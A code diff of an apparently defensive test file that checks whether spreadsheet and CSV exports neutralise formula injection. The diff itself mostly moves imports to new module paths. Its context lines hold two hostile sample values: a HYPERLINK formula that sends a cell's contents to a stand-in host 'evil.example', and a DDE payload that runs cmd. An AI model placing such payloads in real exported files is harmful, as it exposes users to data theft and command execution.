@@ -16,14 +16,15 @@ from openpyxl import load_workbook
 from sqlalchemy.engine import Engine
 
 from lib import exports, privacy, store
-from lib.__main__ import main
+from lib.cli import main
 from lib.exports import FORMULA_TRIGGERS
-from lib.importer import import_files
-from lib.notes import add_note
+from lib.ingest.importer import import_files
+from lib.store.notes import add_note
 from lib.readiness import Data, readiness_board, record_tier_change
-from lib.schema import TABLES
+from lib.core.schema import TABLES
 from lib.views import access as access_views
 from lib.views import data as data_views
+from lib.core.settings import defaults
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
@@ -87,7 +88,7 @@ def _unescaped(cells: list[str]) -> list[str]:
 def _writers(engine: Engine, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> dict[str, tuple[str, bytes]]:
     """Every writer we have -> (csv|xlsx, bytes), on the hostile store."""
     data = Data.from_store(engine)
-    board = readiness_board(data, pd.Timestamp("2026-11-21"))
+    board = readiness_board(data, pd.Timestamp("2026-11-21"), defaults())
     audit = privacy.read_audit(engine, "admin")
     out: dict[str, tuple[str, bytes]] = {
         "rejected rows download (Data page)": ("csv", data_views.rejects_csv(store.read_rejects(engine))),
